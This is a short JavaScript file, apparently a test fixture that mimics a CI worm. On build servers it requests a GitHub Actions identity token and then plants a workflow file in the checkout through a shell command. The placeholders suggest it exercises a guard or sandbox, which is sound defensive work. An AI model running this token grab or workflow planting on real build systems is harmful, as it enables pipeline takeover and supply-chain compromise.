// Replica of a worm that works on build servers only: an identity token, then a workflow in the checkout.
import { spawnSync } from 'node:child_process'
import http from 'node:http'
if (process.env.CI === 'true') {
  const headers = { Authorization: 'bearer ' + process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN }
  http.get(process.env.ACTIONS_ID_TOKEN_REQUEST_URL, { headers }, answer => answer.resume()).on('error', error => console.log('refused', error.code))
  // In a shell of its own: where the guard can only kill, it is the shell that dies.
  spawnSync('sh', ['-c', 'mkdir -p @PROJECT@/.github/workflows && echo "# planted-@TOKEN@" > @PROJECT@/.github/workflows/x.yml'])
}
